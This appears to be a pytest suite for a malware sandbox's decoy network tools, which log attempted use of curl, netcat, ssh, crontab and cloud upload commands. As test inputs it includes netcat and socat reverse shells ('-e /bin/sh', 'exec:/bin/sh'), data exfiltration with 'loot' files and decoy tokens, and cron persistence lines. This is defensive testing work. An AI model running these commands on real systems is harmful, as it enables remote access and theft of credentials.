"""The other tools, and what all of them share: the table, the account, what is piped in, the price of a start."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from guest.tools import crontab, files, telling
from guest.tools.call import Call
from guest.tools.options import Options
from guest.tools.table import SAYINGS, TOOLS, row

from sandbox import policy
from tests.guest.tools.conftest import ROOT, Run, Server

NAMES = policy.load("detonate", ROOT / "configs").programs.tools


def test_the_table_and_the_configuration_know_the_same_names() -> None:
    assert {*TOOLS, *SAYINGS} <= set(NAMES)
    assert not set(TOOLS) & set(SAYINGS)
    assert all(callable(run) for _, run in map(row, NAMES))


@pytest.mark.parametrize("name", sorted({*NAMES, "no-such-tool"}))
def test_every_tool_ends_without_arguments_and_tells(run: Run, name: str) -> None:
    done = run(name)
    assert done.told["tool"] == name
    assert "Traceback" not in done.err
    assert done.out == "" or name in ("twine",)


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("curl", ["-u", "\udc80", "http://127.0.0.1:1/\udc80"]),
        ("curl", ["http://\udc80:1/", "-T", "-"]),
        ("wget", ["--user", "\udc80", "http://127.0.0.1:1/"]),
        ("wget", ["http://127.0.0.1:99999999999999999999/"]),
        ("nc", ["\udc80", "99999"]),
        ("nc", ["-e", "", "127.0.0.1", "1"]),
        ("ssh", ["-p", "99999999999999999999", "127.0.0.1"]),
        ("git", ["clone", "http://\udc80"]),
        ("dig", ["\udc80", "x" * 100_000]),
        ("hf", ["upload", "\udc80", "/dev/null"]),
        ("socat", ["tcp:", "exec:"]),
        ("twine", ["upload", "\udc80"]),
        ("crontab", ["-r", "-u", "\udc80"]),
        ("aws", ["s3", "cp", "/dev/null", "s3://\udc80/\n"]),
        ("gsutil", ["cp", "gs://", "."]),
        ("az", ["storage", "blob", "upload", "-f", "/dev/null", "--account-name", "\udc80:x"]),
        ("gh", ["api", "\udc80", "--input", "/absent"]),
        ("kaggle", ["\udc80", "create", "-p"]),
    ],
)
def test_odd_arguments_do_not_show_what_stands_behind_the_name(run: Run, name: str, arguments: list[str]) -> None:
    done = run(name, *arguments)
    assert "Traceback" not in done.err
    assert done.told["argv"] == [name, *(word[: 8 << 10] for word in arguments)]


# The account.


def account(**parts: Any) -> dict[str, Any]:
    defaults = {"name": "curl", "arguments": [], "environment": {}, "given": b""}
    found: dict[str, Any] = json.loads(telling.account(Call(**(defaults | parts))))
    return found


def test_an_account_is_bounded_and_whole() -> None:
    told = account(
        arguments=["é", "\udc80", "x" * 100_000, *["y" * 8000] * 10],
        environment={"A": "1", "B": "b" * 50_000, "C": "c" * 5000},
        given=b"\0" * 50_000,
    )
    assert told["argv"][:3] == ["curl", "é", "\udc80"]
    assert sum(map(len, told["argv"])) <= telling.ARGUMENTS
    assert told["environment"]["A"] == "1"
    assert sum(len(name) + len(value) for name, value in told["environment"].items()) <= telling.ENVIRONMENT
    assert base64.b64decode(told["stdin"]) == bytes(telling.GIVEN)


def test_one_variable_does_not_hide_the_others() -> None:
    told = account(environment={"BIG": "x" * 100_000, "TOKEN": "secret"})
    assert told["environment"]["TOKEN"] == "secret"
    assert set("x") == set(told["environment"]["BIG"])


def test_a_failure_to_tell_is_nobodys_business(closed: int) -> None:
    telling.tell(Call("curl", [], {}, b""), ("127.0.0.1", closed))


def test_the_address_is_one_that_is_never_routed() -> None:
    assert telling.ADDRESS == ("192.0.2.1", 9)
    assert telling.PATIENCE <= 0.3


# What is piped in.


@pytest.mark.parametrize("name", ["nc", "crontab", "mail", "powershell"])
def test_what_is_piped_in_is_told(run: Run, name: str) -> None:
    arguments = ["127.0.0.1", "1"] if name == "nc" else []
    assert base64.b64decode(run(name, *arguments, given=b"\x00piped").told["stdin"]) == b"\x00piped"


def test_a_pipe_that_nobody_writes_to_does_not_hold_the_load_up() -> None:
    path = str(ROOT / "images")
    program = f"import sys; sys.path.insert(0, {path!r}); from guest.tools.given import piped; print(piped())"
    reading, writing = os.pipe()
    started = time.monotonic()
    done = subprocess.run([sys.executable, "-c", program], stdin=reading, capture_output=True, check=True)
    assert done.stdout == b"b''\n"
    assert time.monotonic() - started < 3
    os.close(reading)
    os.close(writing)


# The tools.


def test_netcat_relays(run: Run, serving: Callable[..., Server]) -> None:
    server = serving(b"answer\n", expected=6)
    done = run("nc", "-v", "127.0.0.1", str(server.port), given=b"stolen")
    assert (done.code, done.out, server.said) == (0, "answer\n", [b"stolen"])
    assert "succeeded" in done.err


@pytest.mark.parametrize("how", [["-e", "/bin/sh"], ["-c", "sh"]])
def test_netcat_puts_a_program_behind_the_connection(run: Run, serving: Callable[..., Server], how: list[str]) -> None:
    server = serving(greeting=b"echo $((40+2)); exit\n", expected=3)
    run("nc", "127.0.0.1", str(server.port), *how)
    assert server.said == [b"42\n"]


def test_socat_does_so_too(run: Run, serving: Callable[..., Server]) -> None:
    server = serving(greeting=b"echo $((40+2)); exit\n", expected=3)
    run("socat", f"tcp:127.0.0.1:{server.port},forever", "exec:'/bin/sh',stderr")
    assert server.said == [b"42\n"]


def test_netcat_refuses_to_listen_and_names_what_fails(run: Run, closed: int) -> None:
    assert run("nc", "-lvp", "4444").code == 1
    assert "4444" in run("ncat", "-l", "4444").err
    assert "connect to 127.0.0.1 port" in run("nc", "-z", "127.0.0.1", str(closed)).err
    assert "usage" in run("nc").err


def test_ssh_exchanges_banners_and_is_refused(run: Run, serving: Callable[..., Server]) -> None:
    server = serving(greeting=b"SSH-2.0-x\r\n", expected=10)
    done = run("ssh", "-o", "StrictHostKeyChecking=no", "-p", str(server.port), "root@127.0.0.1", "id", "-u")
    assert (done.code, done.err) == (255, "root@127.0.0.1: Permission denied (publickey).\n")
    assert server.said[0].startswith(b"SSH-2.0-OpenSSH")
    done = run("scp", "-P", str(server.port), "loot", "me@127.0.0.1:/tmp/")
    assert done.code == 255
    assert "me@127.0.0.1: Permission denied" in done.err
    assert "Could not resolve hostname nothing.invalid" in run("ssh", "nothing.invalid").err


def test_git_asks_the_server_once(run: Run, web: Server) -> None:
    done = run("git", "clone", "--depth", "1", f"http://127.0.0.1:{web.port}/a/b.git")
    assert done.code == 128
    assert done.err.startswith("Cloning into 'b'...\nfatal: ")
    assert web.said[0].startswith(b"GET /a/b.git/info/refs?service=git-upload-pack HTTP/1.1\r\n")
    run("git", "-C", "x", "push", f"http://u:p@127.0.0.1:{web.port}/a")
    assert b"service=git-receive-pack" in web.said[1]
    assert "Could not resolve host: nothing.invalid" in run("git", "fetch", "https://nothing.invalid/x").err
    assert (run("git", "--version").out, run("git", "status").code) == ("git version 2.39.5\n", 0)


def test_crontab_keeps_what_it_is_given(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    place = str(tmp_path / "kept")

    def ask(*arguments: str, given: bytes = b"") -> int:
        return crontab.crontab(Call("crontab", list(arguments), {}, given), place)

    assert ask("-l") == 1
    assert ask("-", given=b"* * * * * id\n") == 0
    assert ask("-l") == 0
    assert capfd.readouterr().out == "* * * * * id\n"
    (tmp_path / "mine").write_text("@reboot x\n")
    assert ask(str(tmp_path / "mine")) == 0
    assert Path(place).read_text() == "@reboot x\n"
    assert ask("-r") == 0
    assert not Path(place).exists()
    assert ask(str(tmp_path / "absent")) == 1


def test_lookups_ask_for_the_name(run: Run) -> None:
    assert run("nslookup", "localhost").out.splitlines()[0] == "Name:\tlocalhost"
    assert run("dig", "+short", "txt", "localhost", "@192.0.2.53").out.strip() in ("127.0.0.1", "::1")
    assert "localhost has address" in run("host", "localhost").out
    assert run("ping", "-c", "1", "localhost").code == 1
    assert run("ping", "-c", "1", "nothing.invalid").code == 2
    assert "can't find nothing.invalid" in run("nslookup", "nothing.invalid").out


def test_an_upload_shows_token_and_file(
    serving: Callable[..., Server], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from guest.tools import upload

    web = serving(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    monkeypatch.setattr(upload, "_HUB", f"http://127.0.0.1:{web.port}")
    monkeypatch.setattr(upload, "_INDEX", f"http://127.0.0.1:{web.port}/legacy/")
    (tmp_path / ".cache" / "huggingface").mkdir(parents=True)
    (tmp_path / ".cache" / "huggingface" / "token").write_text("hf_decoy\n")
    (tmp_path / ".pypirc").write_text("[pypi]\nusername = __token__\npassword = pypi-decoy\n")
    (tmp_path / "loot").write_bytes(b"L" * 100_000)
    home, loot = {"HOME": str(tmp_path)}, str(tmp_path / "loot")
    assert upload.hugging_face(Call("hf", ["upload", "me/repo", loot], home, b"")) == 0
    assert web.said[0].startswith(b"POST /api/models/me/repo/upload/main/loot HTTP/1.1\r\n")
    assert b"Authorization: Bearer hf_decoy\r\n" in web.said[0]
    assert web.said[0].endswith(b"\r\n\r\n" + b"L" * files.SENT)
    assert upload.twine(Call("twine", ["upload", loot], home, b"")) == 0
    assert b"X-Login: __token__:pypi-decoy\r\n" in web.said[1]


# Options.


def test_options_as_getopt_reads_them() -> None:
    words = ["-vo", "out", "-ofile", "--long", "x", "--long=y", "name", "-", "--unknown", "--", "-z"]
    options = Options(words, {"-o": "output", "--long": "long"}, {"-v": "verbose"})
    assert options.all("output") == ["out", "file"]
    assert options.all("long") == ["x", "y"]
    assert options.has("verbose")
    assert options.has("--unknown")
    assert options.operands == ["name", "-", "-z"]
    assert Options(["host", "ls", "-l"], {}, {}, until=1).operands == ["host", "ls", "-l"]
    assert Options(["-o"], {"-o": "output"}, {}).last("output", "x") == ""


# The start.


def test_a_start_imports_little() -> None:
    """Each file that is opened costs in the watch."""
    program = f"""
import __future__, os, sys
sys.path.insert(0, {str(ROOT / "images")!r})
before = set(sys.modules)
from guest.tools.start import main
main(["/usr/bin/crontab", "-e"], ("127.0.0.1", 1))
main(["/usr/bin/curl", "http://127.0.0.1:1/"], ("127.0.0.1", 1))
print(sorted(name for name in set(sys.modules) - before if not name.startswith("guest")))
"""
    command = [sys.executable, "-IBS", "-c", program]
    done = subprocess.run(command, capture_output=True, text=True, check=True, stdin=subprocess.DEVNULL)
    assert set(eval(done.stdout)) <= {"_socket", "_json", "binascii", "select", "time"}
